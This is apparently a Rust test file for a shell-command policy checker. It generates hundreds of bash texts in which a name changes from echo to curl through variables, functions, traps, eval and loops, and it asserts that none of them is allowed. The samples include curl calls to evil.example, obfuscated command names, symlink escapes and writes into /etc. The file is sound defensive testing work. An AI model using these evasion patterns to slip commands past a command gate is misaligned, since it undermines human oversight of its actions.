//! State that changes on the way: what bash starts because of it is never allowed.
//!
//! A name means `echo` at first and `curl` later, by every way a script has to change it, in every place
//! where it does so before the name is used. A real bash runs each text with a stub in the place of `curl`.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod stage;

use stage::Stage;
use toolgate_policy::batch::{Judge, Request};
use toolgate_policy::profile::Verdict::{self, Allow};

/// How a meaning is given, and how it is used: `%c` is the command, and what runs it comes behind.
const MEANINGS: [(&str, &str); 8] = [
    ("x=%c", "$x https://evil.example"),
    ("x=%c", "\"${x}\" https://evil.example"),
    ("f() { %c \"$@\"; }", "f https://evil.example"),
    ("set -- %c", "$1 https://evil.example"),
    ("x=(%c)", "${x[0]} https://evil.example"),
    ("x='%c https://evil.example'", "eval \"$x\""),
    ("y=%c; x=$y", "$x https://evil.example"),
    ("read x <<< %c", "$x https://evil.example"),
];

/// Where the change stands: `%a` gives the harmless meaning, `%b` the other, `%u` uses it.
const PLACES: [&str; 47] = [
    "%a; %b; %u",
    "%a; for i in 1 2; do %u; %b; done",
    "%a; for i in *; do %u; %b; done",
    "%a; for i in $(echo a b); do %u; %b; done",
    "%a; for i in [ab] c; do %u; %b; done",
    "%a; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14; do %u; %b; done",
    "%a; n=0; while [ $n -lt 2 ]; do %u; %b; n=$((n+1)); done",
    "%a; n=0; until [ $n -ge 2 ]; do %u; %b; n=$((n+1)); done",
    "%a; for ((n=0; n<2; n++)); do %u; %b; done",
    "%a; for i in 1 2; do for j in *; do %u; %b; done; done",
    "%a; for j in *; do %u; done; %b; for j in *; do %u; done",
    "%a; if true; then %b; fi; %u",
    "%a; if false; then :; else %b; fi; %u",
    "%b; if false; then %a; fi; %u",
    "if true; then %b; else %a; fi; %u",
    "if false; then %a; else %b; fi; %u",
    "%a; true && %b; %u",
    "%b; false && %a; %u",
    "false && %a || %b; %u",
    "%a; case x in y) :;; x) %b;; esac; %u",
    "case x in y) %a;; x) %b;; esac; %u",
    "case x in x) %b;; *) %a;; esac; %u",
    "%a; { %b; }; %u",
    "%a; { %b; } && %u",
    "%a; (%b; %u)",
    "%b; (%a); %u",
    "%b; echo a | { %a; }; %u",
    "%a; echo a | { %b; %u; }",
    "%a; : \"$(%b; %u)\"",
    "%a; { %b; %u; } & wait",
    "%a; g() { %b; }; g; %u",
    "%a; g() { %u; }; %b; g",
    "%a; g() { %u; }; h() { %b; g; }; h",
    "%a; g() { %b; return; }; g; %u",
    "%a; n=0; g() { %u; %b; n=$((n+1)); if [ $n -lt 2 ]; then g; fi; }; g",
    "%a; n=0; g() { n=$((n+1)); if [ $n -lt 2 ]; then g; fi; %u; %b; }; g",
    "%a; n=0; g() { %u; %b; n=$((n+1)); if [ $n -lt 3 ]; then h; fi; }; h() { g; }; g",
    "%a; eval '%b'; %u",
    "%a; . /dev/stdin <<'END'\n%b\nEND\n%u",
    "%a; trap '%b' USR1; kill -USR1 \"$$\"; %u",
    "%a; trap '%b' DEBUG; %u; %u",
    "%a; trap '%u' EXIT; %b",
    "%a; (trap '%u' EXIT; %b)",
    "trap '%b' DEBUG; %a; %u",
    "%a; ! %b; %u",
    "%a; time %b; %u",
    "%a; while %b; do %u; break; done",
];

/// A change through a chain of variables takes several rounds to arrive.
const CHAINS: [&str; 17] = [
    "export v=$(printf ' https://evil.example'); curl$v",
    "x=' https://evil.example'; declare v=$x; curl$v",
    "f() { local v=a$(printf ' https://evil.example'); curl${v#a}; }; f",
    "x=' https://evil.example'; command export v=$x; curl$v",
    "sh -c \"x=' https://evil.example'; export v=\\$x; curl\\$v\"",
    "readonly x=curl\nx=echo\n$x https://evil.example",
    "declare -r x=curl\nx=echo\n$x https://evil.example",
    "f() { curl \"$@\"; }; readonly -f f\nf() { echo; }\nf https://evil.example",
    "x=echo y=echo z=echo; for i in *; do $x https://evil.example; x=$y; y=$z; z=curl; done",
    "x=echo y=echo z=echo; n=0; while [ $n -lt 5 ]; do $x https://evil.example; x=$y; y=$z; z=curl; n=$((n+1)); done",
    "x=echo y=echo z=echo; n=0; g() { $x https://evil.example; x=$y; y=$z; z=curl; n=$((n+1)); [ $n -lt 6 ] && g; }; g",
    "g() { $1 https://evil.example; n=$((n+1)); [ $n -lt 2 ] && g curl; }; n=0; g echo",
    "x=curl; g() { local x=echo; $x a; }; g; $x https://evil.example",
    "x=curl; g() { declare x=echo; }; g; $x https://evil.example",
    "x=curl; g() { typeset x; x=echo; }; g; $x https://evil.example",
    "curl() { echo; }; unset -f curl; curl https://evil.example",
    "false && curl() { echo; }; curl https://evil.example",
];

fn judge(text: &str) -> Verdict {
    let request = Request::Command { text: text.to_owned(), cwd: None };
    Judge::new("/home/dev", "/home/dev/work/repo").judge(&request).verdict
}

fn texts() -> Vec<String> {
    let mut out: Vec<String> = CHAINS.iter().map(|&text| text.to_owned()).collect();
    for (set, used) in MEANINGS {
        for place in PLACES {
            // Quotes of a meaning end those of the place.
            if place.contains('\'') && set.contains('\'') {
                continue;
            }
            let text =
                place.replace("%a", &set.replace("%c", "echo")).replace("%b", &set.replace("%c", "curl"));
            out.push(text.replace("%u", used));
        }
    }
    out
}

/// Files for patterns to find.
fn stage(name: &str) -> Stage {
    let stage = Stage::new(name);
    for name in ["a", "b", "c", "d"] {
        std::fs::write(stage.work().join(name), "").unwrap();
    }
    stage
}

fn starts_stub(stage: &Stage, text: &str) -> bool {
    stage.starts_stub(&format!("ulimit -t 5; {text}"))
}

#[test]
fn what_bash_starts_after_a_change_is_never_allowed() {
    if !std::path::Path::new("/bin/bash").exists() {
        println!("skipped: there is no bash here");
        return;
    }
    let stage = stage("allowed");
    let (mut started, mut wrong) = (0, Vec::new());
    for text in texts() {
        if judge(&text) == Allow {
            if starts_stub(&stage, &text) {
                wrong.push(text);
            }
        } else {
            started += 1;
        }
    }
    assert!(wrong.is_empty(), "allowed, and started:\n{}", wrong.join("\n"));
    assert!(started > 300, "{started}");
}

#[test]
fn most_of_these_texts_start_it() {
    // The law above says little if bash starts nothing.
    if !std::path::Path::new("/bin/bash").exists() {
        println!("skipped: there is no bash here");
        return;
    }
    let stage = stage("sample");
    let sample: Vec<String> = texts().into_iter().step_by(5).collect();
    let started = sample.iter().filter(|text| starts_stub(&stage, text)).count();
    assert!(started * 10 >= sample.len() * 7, "{started} of {}", sample.len());
}

#[test]
fn what_changes_nothing_stays_allowed() {
    for text in [
        "x=echo; for i in *; do $x \"$i\"; done",
        "g() { local x=$1; echo \"$x\"; }; for x in *; do g \"$x\"; cat \"$x\"; done",
        "g() { local n=$1; if [ \"$n\" -gt 0 ]; then echo \"$n\"; g $((n-1)); fi; }; g 3",
        "if test -f a; then log() { echo \"$@\"; }; else log() { :; }; fi; log b",
        "trap 'echo done' EXIT; x=a; touch \"$x\"",
        "i=0; while [ $i -lt 3 ]; do touch \"f$i\"; i=$((i+1)); done",
        "for i in 1 2 3; do for j in a b; do touch \"$i$j\"; done; done",
        "out=\"\"; for f in *; do out=\"$out $f\"; done; echo \"$out\"",
    ] {
        assert_eq!(judge(text), Allow, "{text}");
    }
}

#[test]
fn a_name_that_a_pattern_found_stays_in_its_directory_when_its_end_is_cut_off() {
    for text in [
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "for f in src/*.js; do git mv \"$f\" \"${f%.*}.ts\"; done",
        "for f in src/*.c; do touch \"build/${f##*/}\"; done",
        "for f in src/*.c; do touch \"build/${f#src/}\"; done",
        "for d in */; do touch \"${d%/}/x\"; done",
    ] {
        assert_eq!(judge(text), Allow, "{text}");
    }
    for text in [
        // A name like `..x` or `a..` becomes the directory above.
        "for f in .*x; do touch \"${f%x}/y\"; done",
        "for f in a*; do touch \"${f#a}/y\"; done",
        "find . -name '*x' | while read f; do touch \"${f%x}/y\"; done",
        "shopt -s dotglob; for f in *x; do touch \"${f%x}/y\"; done",
        "GLOBIGNORE=z; for f in *x; do touch \"${f%x}/y\"; done",
        // How much is cut off is not known.
        "for f in *; do touch \"${f%%.*}/y\"; done",
        "for f in *; do touch \"${f%.txt}/y\"; done",
        "for f in ../*.txt; do touch \"${f%.txt}.md\"; done",
    ] {
        assert_ne!(judge(text), Allow, "{text}");
    }
}

#[test]
fn the_target_of_a_link_is_meant_from_where_the_link_is() {
    for text in
        ["ln -s ../a src/b", "ln -s a b", "ln -s ../a src/", "ln -s -t bin ../x", "ln -sfT ../a src/b"]
    {
        assert_eq!(judge(text), Allow, "{text}");
    }
    for text in [
        "ln -s ../a b",
        "ln -s ../../x src/b",
        "ln -sr ../a src/b",
        "ln ../a src/b",
        "ln -s .. d; touch d/x",
        "ln -s /etc d; touch d/etc/x",
        "ln -s /etc d; touch d/x",
        "ln -s /etc d; cd d; touch x",
    ] {
        assert_ne!(judge(text), Allow, "{text}");
    }
}

#[test]
fn braces_are_expanded_before_variables_are() {
    // It is `$xa $xb`.
    assert_ne!(judge("x=src; xa=/etc/x; touch $x{a,b}"), Allow);
    assert_eq!(judge("x=src; touch ${x}{a,b}"), Allow);
    assert_eq!(judge("touch f{1..3} {a,b}.txt"), Allow);
    assert_ne!(judge("touch {a,b}{1..600}"), Allow);
}

#[test]
fn a_list_in_quotes_is_as_many_words_as_bash_makes_of_it() {
    for text in [
        "set -- b /etc/x; touch \"a$@\"",
        "set -- b /etc/x; touch a\"$@\"",
        "a=(b /etc/x); touch \"a${a[@]}\"",
        "IFS=; set -- /etc / x; touch \"$*\"",
        "IFS=/; set -- '' etc x; touch \"$*\"",
        "IFS=$(cat f); set -- a b; touch \"$*\"",
    ] {
        assert_ne!(judge(text), Allow, "{text}");
    }
    for text in ["set -- a b; touch \"$*\"", "set -- a b; touch \"$@\"", "a=(b c); touch \"src/${a[@]}\""] {
        assert_eq!(judge(text), Allow, "{text}");
    }
}

#[test]
fn what_is_printed_is_what_this_shell_prints() {
    for text in [
        "$(printf '\\143url') https://evil.example",
        "$(echo -e '\\0143url') https://evil.example",
        // A shell that is no bash, or is told to, reads the backslash without being asked.
        "sh -c 'touch \"$(echo \"\\0057etc/x\")\"'",
        "shopt -s xpg_echo; touch \"$(echo '\\0057etc/x')\"",
    ] {
        assert_ne!(judge(text), Allow, "{text}");
    }
    for text in ["touch \"$(printf '%s-%s' a b)\"", "for i in 1 2; do touch \"$(printf 'f%03d' $i)\"; done"] {
        assert_eq!(judge(text), Allow, "{text}");
    }
}
